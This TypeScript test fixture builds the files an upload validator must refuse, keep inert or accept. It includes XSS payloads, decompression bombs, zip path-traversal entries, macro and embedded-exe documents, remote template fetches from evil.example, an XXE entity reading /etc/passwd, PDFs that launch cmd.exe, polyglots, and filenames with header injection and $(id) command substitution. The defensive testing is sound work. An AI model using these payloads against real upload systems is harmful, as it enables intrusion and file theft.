import { docxOf, docxParts, zipOf } from '../paper/office-papers.ts'
import { oldWordDocument } from '../paper/old-word-document.ts'
import { smallJpeg, smallPdf, smallPng } from '../paper/small-files.ts'

export interface SentFile {
  /** What is wrong with it. */
  why: string
  name: string
  bytes: Buffer
}

const png = smallPng
const jpeg = smallJpeg
const mp4 = Buffer.concat([
  Buffer.from('0000001866747970', 'hex'),
  Buffer.from('mp42\0\0\0\0mp42isom'),
  Buffer.alloc(64),
])
const pdf = Buffer.from(smallPdf)
const doc = oldWordDocument()
const docx = docxOf([{ heading: 'สัญญา', text: 'ข้อความ' }])
const html = Buffer.from('<!doctype html><script>alert(document.domain)</script>')
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])

/** The smallest file of each type that the product accepts. */
export const smallest = { png, jpg: jpeg, jpeg, mp4, pdf, doc, docx }

/** Every extension with the content of every other type: jpg and jpeg count as one. */
const disguised: SentFile[] = Object.keys(smallest).flatMap((extension) =>
  Object.entries({ ...smallest, exe, html })
    .filter(([, bytes]) => bytes !== smallest[extension as keyof typeof smallest])
    .map(([content, bytes]) => ({ why: `${content} called ${extension}`, name: `file.${extension}`, bytes })),
)

const foreign =
  'exe html htm xhtml svg svgz xml js mjs css php jsp asp hta lnk bat cmd ps1 vbs scr com msi jar apk iso zip rar 7z gz docm dotm dotx xls xlsx xlsm ppt pptx rtf odt eps ai psd tif bmp webp gif heic avif webm mov avi mkv swf wasm eml mht url desktop'.split(
    ' ',
  )
/** Types that are refused, whatever their content. */
const notTaken: SentFile[] = foreign.map((extension, at) => ({
  why: `the type ${extension}`,
  name: `file.${extension}`,
  bytes: [png, html, svg, docx][at % 4] ?? png,
}))

const body = '<w:p><w:r><w:t>x</w:t></w:r></w:p>'
const parts = docxParts(body)
const relationship = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const withPart = (name: string, content: string | Buffer): Buffer => zipOf({ ...parts, [name]: content })
const settings = 'word/_rels/settings.xml.rels'

/** Documents with active content or decompression bombs. */
const documents: SentFile[] = Object.entries({
  'unpacks to 100 MB': zipOf({ ...parts, 'word/media/a.xml': Buffer.alloc(100_000_000) }, 'deflated'),
  'unpacks to 80 MB in twenty parts': zipOf(
    {
      ...parts,
      ...Object.fromEntries(Array.from({ length: 20 }, (_, n) => [`word/${n}.bin`, Buffer.alloc(4_000_000)])),
    },
    'deflated',
  ),
  'has 20,000 parts': zipOf({
    ...parts,
    ...Object.fromEntries(Array.from({ length: 20_000 }, (_, n) => [`a/${n}`, ''])),
  }),
  'has a part above itself': withPart('../../evil.xml', '<a/>'),
  'has an absolute part': withPart('/etc/passwd', 'root'),
  'has a part of a drive': withPart('C:\\windows\\evil.xml', '<a/>'),
  'carries macros': withPart('word/vbaProject.bin', doc),
  'carries a program': withPart('word/embeddings/evil.exe', exe),
  'says it has macros': zipOf({
    ...parts,
    '[Content_Types].xml': (parts['[Content_Types].xml'] ?? '').replace(
      'wordprocessingml.document.main+xml',
      'ms-word.document.macroEnabled.main+xml',
    ),
  }),
  'fetches a template': withPart(settings, relationship('attachedTemplate', 'https://evil.example/t.dotm')),
  'fetches a template from a share': withPart(
    settings,
    relationship('attachedTemplate', 'file://evil/t.dotm'),
  ),
  'fetches a frame': withPart(
    'word/_rels/webSettings.xml.rels',
    relationship('frame', 'https://evil.example'),
  ),
  'fetches an object': withPart(
    'word/_rels/footer1.xml.rels',
    relationship('oleObject', 'https://evil.example/o'),
  ),
  'declares entities': withPart(
    'word/extra.xml',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  ),
  'declares a bomb of entities': withPart('docProps/app.xml', '<!DOCTYPE a [<!ENTITY x "xx">]><a>&x;</a>'),
  'is cut off': docx.subarray(0, docx.length - 30),
  'has no directory': docx.subarray(0, docx.lastIndexOf(Buffer.from('PK\u0001\u0002', 'latin1'))),
  'has a directory that lies of its place': lying(16, 0x7f_ff_ff_ff),
  'has a directory that lies of its parts': lying(10, 0xff_ff),
}).map(([why, bytes]) => ({ why: `a document that ${why}`, name: 'paper.docx', bytes }))

/** The document with a false number in its end record. */
function lying(at: number, number: number): Buffer {
  const bytes = Buffer.from(docx)
  const end = bytes.lastIndexOf(Buffer.from('PK\u0005\u0006', 'latin1'))
  if (number > 0xff_ff) bytes.writeUInt32LE(number, end + at)
  else bytes.writeUInt16LE(number, end + at)
  return bytes
}

const empty: SentFile[] = Object.keys(smallest).flatMap((extension) => [
  { why: `an empty ${extension}`, name: `file.${extension}`, bytes: Buffer.alloc(0) },
  { why: `one byte called ${extension}`, name: `file.${extension}`, bytes: Buffer.from('P') },
])

const active = (action: string) =>
  Buffer.from(smallPdf.replace('/Type/Catalog', `/Type/Catalog/OpenAction<<${action}>>`))

/** Pictures and PDFs that are damaged or have active content. */
const harmful: SentFile[] = Object.entries({
  'script.pdf': active('/S/JavaScript/JS(app.alert(1))'),
  'launch.pdf': active('/S/Launch/F(cmd.exe)'),
  'embedded.pdf': active('/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 2 0 R>>>>]>>>>'),
  'empty-objects.pdf': Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n'),
  'cut.jpg': jpeg.subarray(0, 20),
  'huge.png': hugePicture(),
}).map(([name, bytes]) => ({ why: name, name, bytes }))

/** Files that must be refused. */
export const refusedFiles: SentFile[] = [...disguised, ...notTaken, ...documents, ...harmful, ...empty]

const script = '<script>fetch("/api/auth/me")</script>'
/** Files that are valid for their type but also for another reader: stored, but nothing may run them. */
export const inertFiles: SentFile[] = Object.entries({
  'pdf.pdf': Buffer.concat([pdf, html]),
  'comment.jpg': Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from('fffe0028', 'hex'),
    Buffer.from(script),
    jpeg.subarray(2),
  ]),
  'behind.jpeg': Buffer.concat([jpeg, html]),
  'place.jpg': Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from('ffe10010457869660000', 'hex'),
    Buffer.alloc(8),
    jpeg.subarray(2),
  ]),
  'zip.png': Buffer.concat([png, zipOf({ 'a.html': script })]),
  'html.png': Buffer.concat([png, html]),
  'html.mp4': Buffer.concat([mp4, html]),
  'ole.doc': Buffer.concat([doc, Buffer.from('Macros VBA AutoOpen')]),
  'page.html.png': png,
  'page.php.jpg': jpeg,
}).map(([name, bytes]) => ({ why: name, name, bytes }))

/** Claims to have 30,000 by 30,000 pixels. */
function hugePicture(): Buffer {
  const bytes = Buffer.from(png)
  bytes.writeUInt32BE(30_000, 16)
  bytes.writeUInt32BE(30_000, 20)
  return bytes
}

/** Names that a folder, a header or a reader would misinterpret. */
export const oddNames = [
  '../../etc/passwd.png',
  '..\\..\\windows\\win.png',
  '/etc/cron.d/x.png',
  'C:\\boot.png',
  '%2e%2e%2fx.png',
  '..%2Fx.png',
  'x.png\0.png',
  'a\r\nSet-Cookie: x=1\r\n.png',
  'a\nb.png',
  '\u202Egnp.exe.png',
  '\u2066x\u2069.png',
  'CON.png',
  'NUL.png',
  '.png',
  '..png',
  ' .png',
  'ก'.repeat(250) + '.png',
  '😀'.repeat(100) + '.png',
  'a"; filename="evil.html".png',
  "a'b.png",
  'a;b=c.png',
  'ชื่อ ไฟล์ (สำเนา).png',
  'x.PNG',
  '$(id).png',
  '`id`.png',
  '<img src=x onerror=alert(1)>.png',
]

const thai = 'ใบเสนอราคา ใบสั่งซื้อ สูตรเซรั่ม ฉลากภาษาไทย ผลแล็บ รูปสินค้า วิดีโอเครื่องจักร สัญญา'.split(' ')

/** Documents and pictures as a Thai company sends them; all must be accepted. */
export const goodFiles: SentFile[] = thai.flatMap((subject, at) =>
  Object.entries(smallest).map(([extension, bytes]) => ({
    why: `${subject}.${extension}`,
    name: `${subject} ฉบับที่ ${at + 1}.${extension}`,
    bytes: extension === 'docx' ? paperOf(subject) : bytes,
  })),
)

/** Has a link, which is harmless unless clicked. */
function paperOf(subject: string): Buffer {
  const written = docxParts(`<w:p><w:r><w:t>${subject}</w:t></w:r></w:p>`)
  return zipOf(
    { ...written, 'word/_rels/footer1.xml.rels': relationship('hyperlink', 'https://shop.example') },
    'deflated',
  )
}
